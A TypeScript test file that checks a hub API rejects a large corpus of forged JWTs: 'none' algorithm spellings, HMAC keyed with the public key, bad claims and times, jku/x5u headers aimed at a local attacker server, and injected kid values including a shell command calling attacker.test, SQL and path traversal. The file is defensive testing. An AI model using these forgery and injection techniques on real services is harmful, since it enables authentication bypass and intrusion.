import { createServer, IncomingMessage, Server, ServerResponse } from 'node:http';
import { AddressInfo } from 'node:net';
import { ApiResponse, Issuer, TestHub } from '../support/hub-harness';
import { personBody, withoutWriting } from '../support/fixtures';
import { b64, claims, handSigned, hmacWithPublicKey, nowSeconds, partsOf, randomKid, strangerKey, unsigned } from './forge';

/**
 * The JWT corpus over real HTTP, beyond the cases of test/foundation/tokens.e2e-spec.ts: every
 * spelling of `none`, algorithm confusion, audience/issuer/typ variants, time, injected `kid`s,
 * key-choosing headers pointed at a live attacker server, and a flood of unknown `kid`s against
 * an agency whose keys live at a `jwksUri` (a real local server counting fetches).
 */

/** A local HTTP server that serves `body()` as JSON and counts requests. */
class CountingServer {
  hits = 0;
  url = '';
  private readonly server: Server;

  private constructor(body: () => unknown) {
    this.server = createServer((_req: IncomingMessage, res: ServerResponse) => {
      this.hits += 1;
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body()));
    });
  }

  static async start(body: () => unknown): Promise<CountingServer> {
    const counting = new CountingServer(body);
    await new Promise<void>((resolve) => counting.server.listen(0, '127.0.0.1', resolve));
    counting.url = `http://127.0.0.1:${(counting.server.address() as AddressInfo).port}/jwks.json`;
    return counting;
  }

  close(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

interface Corpus {
  hub: TestHub;
  sms: Issuer;
  housing: Issuer;
  remote: Issuer;
  attacker: CountingServer;
}

type Case = [name: string, authorization: (c: Corpus) => string | Promise<string>];

const bearer = (token: string): string => `Bearer ${token}`;
const stranger = strangerKey();

/** Tokens that must be refused; each is refused with the same 401 and records nothing. */
const REFUSED: Record<string, Case[]> = {
  'algorithm': [
    ['alg "None" (capitalised)', (c) => bearer(unsigned(claims(c.sms), 'None'))],
    ['alg "NONE"', (c) => bearer(unsigned(claims(c.sms), 'NONE'))],
    ['alg "nOnE"', (c) => bearer(unsigned(claims(c.sms), 'nOnE'))],
    ['alg none carrying the signature of a real token', (c) => bearer(unsigned(claims(c.sms), 'none', partsOf(handSigned(c.sms, {}, claims(c.sms)))[2]))],
    ['no alg in the header', (c) => bearer(handSigned(c.sms, { alg: undefined }, claims(c.sms)))],
    ['alg as an array', (c) => bearer(handSigned(c.sms, { alg: ['ES256'] }, claims(c.sms)))],
    ['HS384 keyed with the agency\'s public key (PEM)', (c) => bearer(hmacWithPublicKey(c.sms, claims(c.sms), 'HS384'))],
    ['HS512 keyed with the agency\'s public key (PEM)', (c) => bearer(hmacWithPublicKey(c.sms, claims(c.sms), 'HS512'))],
    ['HS256 keyed with the agency\'s public key (DER)', (c) => bearer(hmacWithPublicKey(c.sms, claims(c.sms), 'HS256', 'der'))],
    ['HS256 keyed with the agency\'s public JWK as JSON', (c) => bearer(hmacWithPublicKey(c.sms, claims(c.sms), 'HS256', 'jwk'))],
    ['ES256 with the signature stripped', (c) => bearer(`${partsOf(handSigned(c.sms, {}, claims(c.sms))).slice(0, 2).join('.')}.`)],
    ['ES256 with a DER-encoded signature (JWS requires raw r||s)', (c) => bearer(handSigned(c.sms, {}, claims(c.sms), 'der'))],
    ['an unpinned algorithm (ES384) over a real ES256 signature', (c) => bearer(handSigned(c.sms, { alg: 'ES384' }, claims(c.sms)))],
    ['an unpinned algorithm (PS256) over a real ES256 signature', (c) => bearer(handSigned(c.sms, { alg: 'PS256' }, claims(c.sms)))],
    ['a pinned algorithm that does not fit the key (RS256 on an EC key)', (c) => bearer(handSigned(c.sms, { alg: 'RS256' }, claims(c.sms)))],
    ['a pinned algorithm that does not fit the key (EdDSA on an EC key)', (c) => bearer(handSigned(c.sms, { alg: 'EdDSA' }, claims(c.sms)))],
  ],
  'audience': [
    ['no aud', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { aud: undefined })))],
    ['aud as an array without the hub', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { aud: ['onestop-hub-staging', 'crm'] })))],
    ['aud in other letter case', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { aud: 'ONESTOP-HUB' })))],
    ['aud with trailing white space', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { aud: 'onestop-hub ' })))],
    ['aud as a number', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { aud: 1 })))],
  ],
  'issuer': [
    ['no iss', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { iss: undefined })))],
    ['iss with a trailing slash', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { iss: `${c.sms.issuer}/` })))],
    ['iss as an array', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { iss: [c.sms.issuer] })))],
    ['another agency\'s iss and agency, signed with this agency\'s key', (c) => bearer(handSigned(c.sms, {}, claims(c.housing)))],
    ['the bootstrap administrator\'s iss with the admin role, signed with an agency key', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { iss: c.hub.admin.issuer, agency: 'partnership', roles: ['admin'] })))],
    ['a key-set agency\'s iss, signed with a stranger key under the agency\'s own kid', (c) => bearer(handSigned({ ...stranger, publicJwk: { kid: c.remote.publicJwk.kid } }, {}, claims(c.remote)))],
  ],
  'type': [
    ['typ JWE', (c) => bearer(handSigned(c.sms, { typ: 'JWE' }, claims(c.sms)))],
    ['typ dpop+jwt (a proof, not an access token)', (c) => bearer(handSigned(c.sms, { typ: 'dpop+jwt' }, claims(c.sms)))],
    ['typ secevent+jwt', (c) => bearer(handSigned(c.sms, { typ: 'secevent+jwt' }, claims(c.sms)))],
    ['typ as a number', (c) => bearer(handSigned(c.sms, { typ: 1 }, claims(c.sms)))],
    ['typ null', (c) => bearer(handSigned(c.sms, { typ: null }, claims(c.sms)))],
  ],
  'time': [
    ['expired 45 s ago (beyond the 30 s tolerance)', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { iat: nowSeconds() - 600, exp: nowSeconds() - 45 })))],
    ['expired a day ago', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { iat: nowSeconds() - 90_000, exp: nowSeconds() - 86_400 })))],
    ['exp at the epoch', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { exp: 0 })))],
    ['exp as a string', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { exp: String(nowSeconds() + 600) })))],
    ['exp as NaN-like text', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { exp: 'never' })))],
    ['not valid for another hour (nbf)', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { nbf: nowSeconds() + 3600 })))],
  ],
  'kid injection (signed with a key no agency registered)': [
    ['kid as a path', (c) => bearer(handSigned(stranger, { kid: '../../../../../../dev/null' }, claims(c.sms)))],
    ['kid as SQL', (c) => bearer(handSigned(stranger, { kid: "' OR '1'='1' --" }, claims(c.sms)))],
    ['kid as a shell command', (c) => bearer(handSigned(stranger, { kid: '$(curl attacker.test)|id;' }, claims(c.sms)))],
    ['kid with NUL and CRLF', (c) => bearer(handSigned(stranger, { kid: 'sms-1\u0000\r\nX-Injected: 1' }, claims(c.sms)))],
    ['kid of 6 KB', (c) => bearer(handSigned(stranger, { kid: 'k'.repeat(6 * 1024) }, claims(c.sms)))],
    ['kid as an object', (c) => bearer(handSigned(stranger, { kid: { $ne: null } }, claims(c.sms)))],
    ['kid as a number', (c) => bearer(handSigned(stranger, { kid: 1 }, claims(c.sms)))],
    ['kid as null', (c) => bearer(handSigned(stranger, { kid: null }, claims(c.sms)))],
    ['another agency\'s kid and key with this agency\'s iss', (c) => bearer(handSigned(c.housing, {}, claims(c.sms)))],
    ['the administrator\'s kid with an agency\'s iss', (c) => bearer(handSigned(stranger, { kid: c.hub.admin.publicJwk.kid }, claims(c.sms)))],
  ],
  'key-choosing headers (with a real signature by the agency\'s key)': [
    ['jku at a live attacker server', (c) => bearer(handSigned(c.sms, { jku: c.attacker.url }, claims(c.sms)))],
    ['x5u at a live attacker server', (c) => bearer(handSigned(c.sms, { x5u: c.attacker.url }, claims(c.sms)))],
    ['x5c with a junk chain', (c) => bearer(handSigned(c.sms, { x5c: [Buffer.from('not a certificate').toString('base64')] }, claims(c.sms)))],
    ['jwk with the agency\'s own public key', (c) => bearer(handSigned(c.sms, { jwk: c.sms.publicJwk }, claims(c.sms)))],
    ['jwk with the attacker\'s key and no kid', (c) => bearer(handSigned(stranger, { jwk: stranger.publicJwk, kid: undefined }, claims(c.sms)))],
    ['jku at the attacker with the key-set agency\'s iss', (c) => bearer(handSigned(stranger, { jku: c.attacker.url }, claims(c.remote)))],
    ['crit naming exp', (c) => bearer(handSigned(c.sms, { crit: ['exp'] }, claims(c.sms)))],
    ['crit with an unencoded payload (b64: false)', (c) => bearer(handSigned(c.sms, { crit: ['b64'], b64: false }, claims(c.sms)))],
  ],
  'claims': [
    ['a payload that is a JSON array', (c) => bearer(handSigned(c.sms, {}, [claims(c.sms)] as never))],
    ['roles as a string', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { roles: 'caseworker' })))],
    ['an empty sub', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { sub: '' })))],
    ['sub as a number', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { sub: 17 })))],
    ['no agency claim', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { agency: undefined })))],
    ['agency as an array', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { agency: ['sms'] })))],
  ],
  'structure': [
    ['two parts', (c) => bearer(partsOf(handSigned(c.sms, {}, claims(c.sms))).slice(0, 2).join('.'))],
    ['four parts', (c) => bearer(`${handSigned(c.sms, {}, claims(c.sms))}.e30`)],
    ['padding characters in base64url', (c) => bearer(handSigned(c.sms, {}, claims(c.sms)).replace('.', '==.'))],
    ['JWS JSON serialisation instead of compact', (c) => {
      const [protectedHeader, payload, signature] = partsOf(handSigned(c.sms, {}, claims(c.sms)));
      return bearer(b64({ protected: protectedHeader, payload, signature }));
    }],
    ['Bearer given twice', (c) => `Bearer Bearer ${handSigned(c.sms, {}, claims(c.sms))}`],
    ['a token that is a header only', (c) => bearer(b64({ alg: 'ES256', kid: c.sms.publicJwk.kid }))],
  ],
};

/** Tokens that must be accepted: the corpus is not refusing everything. */
const ACCEPTED: Case[] = [
  ['expired 10 s ago (within the 30 s tolerance)', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { iat: nowSeconds() - 600, exp: nowSeconds() - 10 })))],
  ['typ at+jwt', (c) => bearer(handSigned(c.sms, { typ: 'at+jwt' }, claims(c.sms)))],
  ['typ application/at+jwt', (c) => bearer(handSigned(c.sms, { typ: 'application/at+jwt' }, claims(c.sms)))],
  ['no typ', (c) => bearer(handSigned(c.sms, { typ: undefined }, claims(c.sms)))],
  ['no kid (the agency has one key)', (c) => bearer(handSigned(c.sms, { kid: undefined }, claims(c.sms)))],
  ['the scheme in lower case', (c) => `bearer ${handSigned(c.sms, {}, claims(c.sms))}`],
  ['aud as an array holding the hub', (c) => bearer(handSigned(c.sms, {}, claims(c.sms, { aud: ['crm', 'onestop-hub'] })))],
  ['an agency whose keys are at a jwksUri', (c) => bearer(handSigned(c.remote, {}, claims(c.remote)))],
];

describe('the JWT corpus over HTTP', () => {
  const c = {} as Corpus;
  let jwksServer: CountingServer;
  let remoteJwks: unknown = { keys: [] };

  /** A write a valid sms (or remote) caseworker token may make. */
  const register = (authorization: string): Promise<ApiResponse> => c.hub.request('POST', '/v1/people', undefined, personBody(), { authorization });

  beforeAll(async () => {
    c.hub = await TestHub.start();
    c.sms = await c.hub.registerAgency('sms', 'substance-misuse');
    c.housing = await c.hub.registerAgency('housing', 'housing');
    jwksServer = await CountingServer.start(() => remoteJwks);
    c.remote = await c.hub.registerAgency('remote', 'charity', { jwks: undefined, jwksUri: jwksServer.url });
    remoteJwks = { keys: [c.remote.publicJwk] };
    c.attacker = await CountingServer.start(() => ({ keys: [stranger.publicJwk] }));
  });
  afterAll(async () => {
    await c.hub.close();
    await jwksServer.close();
    await c.attacker.close();
  });

  it.each(ACCEPTED)('accepts %s (the control)', async (_, authorization) => {
    expect((await register(await authorization(c))).status).toBe(201);
  });

  describe.each(Object.entries(REFUSED))('refuses with 401, no detail, no echo, and records nothing: %s', (_, cases) => {
    it.each(cases)('%s', async (_name, authorization) => {
      const header = await authorization(c);
      const res = await withoutWriting(c.hub, () => register(header));
      expect(res.status).toBe(401);
      expect(res.body).toEqual({ error: { code: 'auth.unauthenticated', message: 'authentication required' } });
      expect(res.headers.get('www-authenticate')).toMatch(/^Bearer /);
      const signature = partsOf(header.split(' ').pop()!)[2];
      if (signature) expect(JSON.stringify(res.body)).not.toContain(signature);
    });
  });

  it('never fetches a key set a token points at (jku, x5u)', () => {
    expect(c.attacker.hits).toBe(0);
  });

  it('refuses a token beyond the HTTP header limit before the hub reads it (431, not 5xx)', async () => {
    const padded = handSigned(c.sms, {}, claims(c.sms, { pad: 'p'.repeat(20 * 1024) }));
    const res = await register(bearer(padded));
    expect(res.status).toBe(431);
  });

  describe('given an agency whose keys are at a jwksUri served by a real server', () => {
    it('answers a flood of 100 tokens with random unknown kids with 401 each, fetching the key set at most once more within the cooldown', async () => {
      expect((await register(bearer(handSigned(c.remote, {}, claims(c.remote))))).status).toBe(201);
      const fetched = jwksServer.hits;
      expect(fetched).toBeGreaterThanOrEqual(1);
      const statuses: number[] = [];
      for (let wave = 0; wave < 5; wave += 1) {
        const tokens = Array.from({ length: 20 }, () => bearer(handSigned(strangerKey(), {}, claims(c.remote))));
        statuses.push(...(await Promise.all(tokens.map(async (t) => (await register(t)).status))));
      }
      expect(statuses).toEqual(Array(100).fill(401));
      expect(jwksServer.hits - fetched).toBeLessThanOrEqual(1);
    });

    it('still accepts the agency\'s real key after the flood, without another fetch', async () => {
      const before = jwksServer.hits;
      expect((await register(bearer(handSigned(c.remote, {}, claims(c.remote))))).status).toBe(201);
      expect(jwksServer.hits).toBe(before);
    });

    it('answers a flood of unknown kids for an agency with inline keys without fetching anything', async () => {
      const before = jwksServer.hits + c.attacker.hits;
      const statuses = await Promise.all(Array.from({ length: 50 }, async () => (await register(bearer(handSigned(stranger, { kid: randomKid() }, claims(c.sms))))).status));
      expect(statuses).toEqual(Array(50).fill(401));
      expect(jwksServer.hits + c.attacker.hits).toBe(before);
    });
  });
});
